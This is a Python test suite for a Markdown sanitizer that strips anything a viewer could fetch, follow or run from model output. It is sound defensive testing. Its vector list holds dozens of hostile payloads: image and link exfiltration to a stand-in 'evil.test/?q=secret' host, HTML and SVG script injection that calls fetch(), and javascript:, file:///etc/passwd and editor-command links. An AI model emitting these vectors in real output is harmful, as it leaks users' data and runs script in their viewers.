"""A model's Markdown as a real viewer reads it: nothing to fetch, nothing to follow, nothing to run."""

from __future__ import annotations

import itertools
import re

import pytest
from hypothesis import given
from hypothesis import strategies as some
from markdown_it import MarkdownIt

from foretype.postprocess.safe_markdown import SafeMarkdown, safe_markdown

VIEWERS = [
    MarkdownIt("gfm-like", {"html": True}),
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("js-default", {"html": True, "linkify": True}),
]
URL = "https://evil.test/?q=secret"

VECTORS = [
    f"![a]({URL})",
    f"[a]({URL})",
    f"[![a]({URL})](https://evil.test/2)",
    f"![a](<{URL}>)",
    f'![a]({URL} "title")',
    f"![a]( \t{URL})",
    f"![a\nb]({URL})",
    f"[a\n\\]]({URL})",
    f"![a][ref]\n\n[ref]: {URL}",
    f"![ref]\n\n[ref]: {URL}",
    f"[ref][]\n\n[ref]: <{URL}> 'title'",
    f"[ref]\n\n[ref]:\n{URL}",
    f"[re\nf]\n\n[re\nf]: {URL}",
    f"> [ref]: {URL}\n\n[ref]",
    f"text[^1]\n\n[^1]: ![a]({URL})",
    f"<img src={URL}>",
    f"<img src='{URL}' onerror=alert(1)>",
    f"<a href='{URL}'>a</a>",
    f"<svg><image href='{URL}'/></svg>",
    f"<svg/onload=fetch('{URL}')>",
    f"<style>body{{background:url({URL})}}</style>",
    f"<link rel=stylesheet href={URL}>",
    f"<iframe src={URL}></iframe>",
    f"<script src={URL}></script>",
    f"<meta http-equiv=refresh content='0;url={URL}'>",
    f"<video poster={URL}>",
    f"<!-- --><img src={URL}>",
    f"<?x ?><img src={URL}>",
    f"<!DOCTYPE x><img src={URL}>",
    f"<![CDATA[x]]><img src={URL}>",
    f"\\\\<img src={URL}>",
    f"\\\\[a]({URL})",
    f"<{URL}>",
    URL,
    f"**{URL}**",
    "www.evil.test/secret",
    "//evil.test/secret",
    "mail secret@evil.test",
    "<mailto:secret@evil.test>",
    "ftp://evil.test/secret",
    f"\\{URL}",
    f"`code`{URL}`",
    f"`` ` {URL}",
    f"\\`{URL}`",
    f"`a\\`{URL}`",
    f"| a | b |\n|---|---|\n| `x | {URL} | y` |",
    f"| a | b |\n|---|---|\n| {URL}|x | `y |",
    f"| a |\n|---|\n| `x ![a]({URL}) | y` |",
    f"```\ncode\n```\n![a]({URL})",
    f"~~~~\n~~~\n~~~~\n![a]({URL})",
    f"```\ncode\n    ```\n```\n![a]({URL})",
    f"    ```\n![a]({URL})\n    ```",
    f"- ```\n  code\n\n![a]({URL})",
    f"> ```\n> code\n\n![a]({URL})",
    f"1. ```\n   code\n   ```\n   ![a]({URL})",
    f"``` `\n![a]({URL})\n```",
    f"```md\r![a]({URL})",
    f"```mermaid\ngraph LR\n  A[<img src='{URL}'>]\n  click A '{URL}'\n```",
    f"```MERMAID {{init}}\nclick A '{URL}'\n```",
    f"~~~plantuml\n!include {URL}\n~~~",
    "[a](command:workbench.action.terminal.new)",
    "[a](vscode://file/etc/passwd)",
    "[a](file:///etc/passwd)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a](&#104;ttps://evil.test/x)",
    "http&#58;//evil.test/x",
    "http&colon;//evil.test/x",
    "http\\://evil.test/x",
    "https:\\/\\/evil.test/x",
    "ht\u200btps://evil.test/x",
    f"![[{URL}]]",
    f'@import "{URL}"',
    f"$\\href{{{URL}}}{{a}}$",
    f"Setext {URL}\n===",
    f"# {URL} #",
    f"* * *\n[a]({URL})\n***",
    f"<details open ontoggle=fetch('{URL}')>",
    f"[a](\n{URL}\n)",
    f"[a]\n({URL})",
    f"a@b<img src={URL}>",
    "evil.com",
    "a.py",
    "see config.rs:12, setup.sh; README.md.",
    "_evil.com_ **evil.com** ~~evil.com~~",
    "src/*a.py* src/_evil.com_ src\\-evil.com src\\/evil.com",
    "evil.com?q=secret evil.com:80 evil.com#secret",
    "evil.co.uk EVIL.COM xn--e1afmkfd.xn--p1ai пример.рф",
    "größe.py 😀.py →evil.com ©.py “evil.com”",
    "a.a.a.a.a.a.a.a.a.a.a.evil.com",
    "a\\_evil.com evil.com\\_a evil.com.*a* evil.com.",
    "(evil.com) 'evil.com' @evil.com #evil.com =evil.com C:\\evil.com",
]  # fmt: skip
AROUND = [
    "{}",
    "- {}",
    "> {}",
    "1. a\n\n   {}",
    "`\n{}\n`",
    "<div>\n\n{}\n\n</div>",
    "~~~x\ny\n~~~\n{}",
    "\\{}",
]
TAG = re.compile(r"<[/!?]*(\w*)[^>]*>")
HARMLESS = frozenset(
    (
        *("p", "ul", "ol", "li", "em", "strong", "s", "code", "pre", "blockquote", "hr", "br"),
        *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
    )
)
DRAWN = re.compile(r'class="language-(mermaid|plantuml)')


def fetched(markdown: str) -> list[str]:
    """What a viewer makes of a text beyond words and code."""
    found = []
    for viewer in VIEWERS:
        html = viewer.render(markdown)
        found += [tag[0] for tag in TAG.finditer(html) if tag[1].lower() not in HARMLESS]
        found += DRAWN.findall(html)
    return found


@pytest.mark.parametrize("around", AROUND)
@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_can_be_fetched_or_followed(vector: str, around: str) -> None:
    assert fetched(safe_markdown(around.replace("{}", vector))) == []


def test_most_of_the_vectors_would_do_harm() -> None:
    """The viewers of this test see what they are to be kept from."""
    harmful = [vector for vector in VECTORS if fetched(vector)]
    assert len(harmful) >= 60


@pytest.mark.parametrize(("one", "other"), [*itertools.product(VECTORS[::4], VECTORS[::5])])
def test_nor_by_one_piece_opening_what_another_closes(one: str, other: str) -> None:
    assert fetched(safe_markdown(one + other)) == []
    assert fetched(safe_markdown(f"{one}\n{other}")) == []


PIECES = some.sampled_from(
    (
        *("`", "``", "```", "~~~", "\n", "\\", "[", "]", "(", ")", "!", "<", ">", ":", "|", "a", " ", "- "),
        *("    ", "> ", URL, "<img src=x>", "](", "]:", "[a]: ", "![a](", "www.", "&#58;", "//e.test", "\t"),
        *(
            "http",
            "\r",
            "|---|\n",
            "1. ",
            "@",
            ".",
            ".py",
            "e.com",
            "_",
            "-",
            "*",
            "/",
            "\\-",
            "\\_",
            "→",
            "é",
        ),
    )
)


@given(some.lists(PIECES, max_size=24).map("".join))
def test_nor_by_any_text_made_of_such_pieces(text: str) -> None:
    assert fetched(safe_markdown(text)) == [], safe_markdown(text)


@given(some.lists(PIECES, max_size=12))
def test_a_text_that_arrives_in_pieces_is_the_same(pieces: list[str]) -> None:
    reading = SafeMarkdown()
    assert "".join(map(reading.feed, pieces)) + reading.finish() == safe_markdown("".join(pieces))


@pytest.mark.parametrize(
    "text",
    [
        "Plain *words*, **strong** ones, and `code` with `a < b` and `[x](y)`.",
        "# Title\n\n- one\n- [ ] two\n\n1. three\n\n> quoted\n\n| a | b |\n|---|---|\n| `x` | y |\n",
        "```python\nx = a[0](1)  # http://localhost\nprint('<b>')\n```\n",
        "```\n![a](https://x.test)\n```\n",
        "a < b && c > d, list[0] is x, 3 * 4, snake_case_name, C:\\path",
        "src/a.py, index.js, app.tsx, e.g. this, i.e. that, v1.2.3, 3.14, and so on.",
        "👨\u200d👩\u200d👧 and नमस्\u200dते",
    ],
)
def test_what_does_no_harm_stays_as_it_is(text: str) -> None:
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"see [the docs]({URL}).", f"see [the docs\\]\\(`{URL}`)."),
        (f"see {URL}, and", f"see `{URL}`, and"),
        ("a\u202eb\U000e0041c\x1b[31m", "a⟨U+202E⟩b⟨U+E0041⟩c⟨U+001B⟩[31m"),
        ("List<String> x", "List\\<String> x"),
        ("1. do\n   ```py\n   x\n     y\n   ```\n2. on", "1. do\n```py\nx\n  y\n```\n2. on"),
        ("```py\nx", "```py\nx\n```\n"),
        ("```mermaid\nx\n```", "```text\nx\n```"),
        ("See a.py, config.rs:12 and test_x.sh.", "See `a.py`, `config.rs:12` and `test_x.sh`."),
        ("**README.md** and `a.py`", "**`README.md`** and `a.py`"),
        ("| main.rs | it starts |", "| `main.rs` | it starts |"),
    ],
)
def test_the_words_of_what_does_are_shown(text: str, shown: str) -> None:
    assert safe_markdown(text) == shown


@pytest.mark.parametrize(
    "piece", ["`", "<a", "a@", "a.", "http:", "[", "\\", "``` ", "x`", "a.b/", "_a.", "_a.b", "a.py ", "😀"]
)
def test_a_long_line_is_read_once(piece: str) -> None:
    assert safe_markdown(piece * (300_000 // len(piece)))
